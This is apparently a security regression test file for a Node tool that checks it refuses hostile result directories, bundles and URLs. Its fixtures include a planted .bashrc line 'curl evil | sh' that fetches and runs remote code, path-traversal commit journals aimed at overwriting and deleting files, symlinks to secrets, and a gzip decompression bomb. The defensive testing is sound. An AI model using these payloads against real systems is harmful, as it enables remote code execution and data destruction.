import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { UserError } from '../env/errors/errors.js';
import { EnvHost } from '../experiments/serve/env-host.js';
import { lockDir } from '../experiments/io/dir-lock.js';
import { packDir, unpackBundle } from '../experiments/sweep/queue/bundle.js';
import { latestCheckpointRef, localCheckpointBundle } from '../experiments/sweep/queue/job-dir.js';
import { parseArtefactTarget } from '../experiments/sweep/queue/artefact-target.js';
import { parseRedisUrl } from '../experiments/sweep/queue/redis-target.js';
import { latestCheckpoint } from '../experiments/io/run-dir.js';
import { runMain } from './helpers/cli-in-process.js';
import { tempDir } from './helpers/temp-dirs.js';

/**
 * The attacks of issue 25 by someone who can write to the queue or the bucket, or who hands a
 * researcher a directory, each as it was tried against main: every test here failed there (the
 * queue's own attacks, with a private Redis, are in queue-hostile-jobs.test.ts). This file imports only
 * modules that main had, so it runs against main's code unchanged.
 */

/** A raw bundle as bundle.ts lays it out, without packFiles' checks: what an attacker writes. */
function rawBundle(files: Record<string, Buffer>, gzip = true): Buffer {
  const entries = Object.entries(files);
  const header = Buffer.from(JSON.stringify(entries.map(([path, data]) => ({ path, size: data.length }))));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(header.length);
  const raw = Buffer.concat([Buffer.from('execgym-bundle-1\n'), length, header, ...entries.map(([, d]) => d)]);
  return gzip ? gzipSync(raw) : raw;
}

/** A directory that `report` takes for a benchmark (it settles a benchmark's journal before reading it). */
function benchmarkLookalike(dir: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'summary.json'), '{}');
  writeFileSync(join(dir, 'episodes.csv'), 'policy,is_bps\n');
}

describe('a handed-over result directory cannot reach outside itself', () => {
  it('report refuses a commit journal whose file names lead out of the directory, in one line, and neither overwrites nor deletes the files it names', async () => {
    const root = tempDir();
    const handed = join(root, 'handed');
    benchmarkLookalike(handed);
    mkdirSync(join(root, 'home'));
    writeFileSync(join(root, 'home', '.bashrc'), 'mine\n');
    writeFileSync(join(root, 'keep.txt'), 'keep\n');
    // The payload travels inside the handed directory; the journal moves it over ../home/.bashrc and removes ../keep.txt.
    mkdirSync(join(handed, 'home'), { recursive: true });
    writeFileSync(join(handed, 'home', '.bashrc'), 'curl evil | sh\n');
    mkdirSync(join(handed, '.staging-benchmark-1'));
    writeFileSync(join(handed, '.execgym-commit.json'), JSON.stringify({ kind: 'benchmark', staging: '.staging-benchmark-1', files: ['../home/.bashrc'], remove: ['../keep.txt'] }));
    const result = await runMain(['report', handed, '--out', join(root, 'report', 'report.html')]);
    expect(readFileSync(join(root, 'home', '.bashrc'), 'utf8')).toBe('mine\n');
    expect(existsSync(join(root, 'keep.txt'))).toBe(true);
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toMatch(/commit journal .*"files"\[0\] must be a relative path without "\.\.".*got "\.\.\/home\/\.bashrc"$/);
  });

  it('report refuses a journal whose staging folder is a link to another folder (its files would be moved away from there)', async () => {
    const root = tempDir();
    const handed = join(root, 'handed');
    benchmarkLookalike(handed);
    mkdirSync(join(root, 'home'));
    writeFileSync(join(root, 'home', 'notes.txt'), 'mine\n');
    symlinkSync(join(root, 'home'), join(handed, '.staging-benchmark-1'));
    writeFileSync(join(handed, '.execgym-commit.json'), JSON.stringify({ kind: 'benchmark', staging: '.staging-benchmark-1', files: ['notes.txt'], remove: [] }));
    const result = await runMain(['report', handed, '--out', join(root, 'report', 'report.html')]);
    expect(readFileSync(join(root, 'home', 'notes.txt'), 'utf8')).toBe('mine\n');
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/"staging" ".staging-benchmark-1" is not a directory of its own/);
  });

  it('a benchmark written into a handed-over directory does not remove the files that a planted result index names outside it', async () => {
    const root = tempDir();
    const handed = join(root, 'handed');
    mkdirSync(handed);
    writeFileSync(join(root, 'keep.txt'), 'keep\n');
    writeFileSync(join(handed, '.execgym-benchmark.files.json'), JSON.stringify(['../keep.txt']));
    const result = await runMain(['benchmark', '--env', 'ac-linear-v0', '--policies', 'twap', '--episodes', '10', '--out', handed]);
    expect(existsSync(join(root, 'keep.txt'))).toBe(true);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.execgym-benchmark\.files\.json"\[0\] must be a relative path without "\.\."/);
  });

  it('report refuses a sweep whose aggregate.json names a run outside the sweep directory', async () => {
    const root = tempDir();
    const handed = join(root, 'handed');
    mkdirSync(handed);
    writeFileSync(join(handed, 'aggregate.json'), JSON.stringify({ settings: [], runs: ['../elsewhere/run'] }));
    const result = await runMain(['report', handed, '--out', join(root, 'report', 'report.html')]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/"runs"\[0\] must be a relative path without "\.\."/);
  });
});

describe('a run directory or a checkpoint names only its own files', () => {
  it('a checkpoint pointer (checkpoints/latest.json) naming a folder outside the run is refused, by training and by the queue', () => {
    const run = tempDir();
    mkdirSync(join(run, 'checkpoints'), { recursive: true });
    mkdirSync(join(run, 'outside'));
    writeFileSync(join(run, 'checkpoints', 'latest.json'), JSON.stringify({ dir: '../outside', envSteps: 100 }));
    expect(() => latestCheckpoint(run)).toThrow(/latest\.json": field\.dir: must name a checkpoint directory step-<envSteps> \(got "\.\.\/outside"\)/);
    const job = tempDir();
    mkdirSync(join(job, 'run', 'checkpoints'), { recursive: true });
    writeFileSync(join(job, 'run', 'checkpoints', 'latest.json'), JSON.stringify({ dir: '/etc', envSteps: 100 }));
    expect(() => latestCheckpointRef(job)).toThrow(UserError);
  });

  it('packing a run directory refuses a symbolic link in it (a handed-over run resumed with --redis would upload the link\'s target)', () => {
    const root = tempDir();
    const run = join(root, 'run');
    mkdirSync(join(run, 'checkpoints', 'step-000000000100'), { recursive: true });
    writeFileSync(join(run, 'checkpoints', 'latest.json'), JSON.stringify({ dir: 'step-000000000100', envSteps: 100 }));
    writeFileSync(join(root, 'secret.txt'), 'ssh key\n');
    symlinkSync(join(root, 'secret.txt'), join(run, 'checkpoints', 'step-000000000100', 'model.json'));
    expect(() => localCheckpointBundle(run, `${run}.log`)).toThrow(/model\.json": it is a symbolic link, and a bundle carries regular files only/);
    expect(() => packDir(root)).toThrow(/symbolic link/);
  });
});

describe('bundles from Redis or a bucket are bounded and carry no control files', () => {
  it('a decompression bomb (320 KiB unpacking to 320 MiB) is refused at the unpacked-size limit, naming it, without allocating the whole', () => {
    // A valid bundle of one 320 MiB file of zeros: its header, then twenty gzip members of 16 MiB of zeros (gunzip concatenates members).
    const head = rawBundle({}, false);
    const header = Buffer.from(JSON.stringify([{ path: 'run/zeros.bin', size: 320 * 2 ** 20 }]));
    const length = Buffer.alloc(4);
    length.writeUInt32BE(header.length);
    const member = gzipSync(Buffer.alloc(16 * 2 ** 20));
    const bomb = Buffer.concat([gzipSync(Buffer.concat([head.subarray(0, 'execgym-bundle-1\n'.length), length, header])), ...Array.from({ length: 20 }, () => member)]);
    expect(bomb.length).toBeLessThan(400 * 1024);
    const before = process.memoryUsage().rss;
    expect(() => unpackBundle(bomb)).toThrow(/unpacks to more than the limit of 268435456 bytes \(EXECGYM_BUNDLE_MAX_UNPACKED_BYTES\)/);
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 2 ** 20);
  });

  it('a bundle over the packed-size or file-count limit is refused, naming the limit', () => {
    const bundle = rawBundle({ 'run.log': Buffer.from('x'), 'run/a': Buffer.from('a'), 'run/b': Buffer.from('b') });
    expect(() => (unpackBundle as (b: Buffer, l: object) => unknown)(bundle, { maxBytes: 10, maxUnpackedBytes: 2 ** 20, maxFiles: 100 })).toThrow(/over the limit of 10 \(EXECGYM_BUNDLE_MAX_BYTES\)/);
    expect(() => (unpackBundle as (b: Buffer, l: object) => unknown)(bundle, { maxBytes: 2 ** 20, maxUnpackedBytes: 2 ** 20, maxFiles: 2 })).toThrow(/3 files, over the limit of 2 \(EXECGYM_BUNDLE_MAX_FILES\)/);
  });

  it('a bundle carrying execgym\'s control files (a commit journal, a lock) is refused', () => {
    const journal = Buffer.from(JSON.stringify({ kind: 'benchmark', staging: '.staging-x', files: ['../../.bashrc'], remove: [] }));
    expect(() => unpackBundle(rawBundle({ 'run/benchmark/.execgym-commit.json': journal }))).toThrow(/control files \(\.execgym\*\) never travel/);
    expect(() => unpackBundle(rawBundle({ 'run/.execgym.lock': Buffer.from('{}') }))).toThrow(/never travel/);
  });
});

describe('no credential in any output or file', () => {
  const S3CRET = 'S3cret/Pass';

  it('a Redis password holding "/" is not printed when the URL is refused', async () => {
    expect(() => parseRedisUrl('redis', `redis://:${S3CRET}@127.0.0.1:6379`)).toThrow(UserError);
    try {
      parseRedisUrl('redis', `redis://:${S3CRET}@127.0.0.1:6379`);
    } catch (error) {
      expect((error as Error).message).not.toContain('S3cret');
      expect((error as Error).message).not.toContain('Pass@');
      expect((error as Error).message).toContain('redis://***@127.0.0.1:6379');
    }
    const result = await runMain(['queue', 'status', '--redis', `redis://:${S3CRET}@127.0.0.1:1`]);
    expect(result.code).toBe(2);
    expect(result.stderr + result.stdout).not.toContain('S3cret');
  });

  it('an AWS secret holding "/" in --artefacts or AWS_ENDPOINT_URL_S3 is not printed', () => {
    const message = (f: () => unknown) => {
      try {
        f();
      } catch (error) {
        return (error as Error).message;
      }
      throw new Error('expected a refusal');
    };
    const flag = message(() => parseArtefactTarget('--artefacts', 's3://AKIAKEY:wJal/rXUtnFEMI@bucket/p', {}));
    expect(flag).not.toContain('wJal');
    expect(flag).not.toContain('rXUtn');
    const endpoint = message(() => parseArtefactTarget('--artefacts', 's3://bucket', { AWS_ENDPOINT_URL_S3: 'http://key:wJal/rXUtnFEMI@127.0.0.1:9000' }));
    expect(endpoint).toMatch(/^AWS_ENDPOINT_URL_S3 /);
    expect(endpoint).not.toContain('wJal');
    expect(endpoint).not.toContain('rXUtn');
  });

  it('a malformed percent-escape in a Redis password is one line naming the flag, not a URIError', () => {
    expect(() => parseRedisUrl('redis', 'redis://:%E0%A4%A@127.0.0.1:6379')).toThrow(UserError);
    expect(() => parseRedisUrl('redis', 'redis://:%E0%A4%A@127.0.0.1:6379')).toThrow(/^--redis has a password that is not valid percent-encoding/);
  });

  it('a lock file records the command name only, never its arguments (a --redis URL holds a password)', () => {
    const dir = tempDir();
    const argv = process.argv;
    process.argv = ['node', '/usr/bin/execgym', 'sweep', '--redis=redis://:Pa55word-x@queue:6379', 'cfg.json'];
    try {
      const lock = lockDir(dir, '--out');
      const text = readFileSync(lock.path, 'utf8');
      lock.release();
      expect(text).not.toContain('Pa55word');
      expect(JSON.parse(text).command).toBe('execgym sweep');
    } finally {
      process.argv = argv;
    }
  });
});

describe('execgym serve', () => {
  it('an inherited name as op (toString, constructor, __proto__) is an unknown op in one line, not an internal error', () => {
    const host = new EnvHost();
    for (const op of ['toString', 'constructor', '__proto__', 'hasOwnProperty']) {
      expect(() => host.handle({ header: { op }, arrays: new Map() } as never)).toThrow(new RegExp(`^request\\.op: unknown op "${op}"`));
    }
  });
});
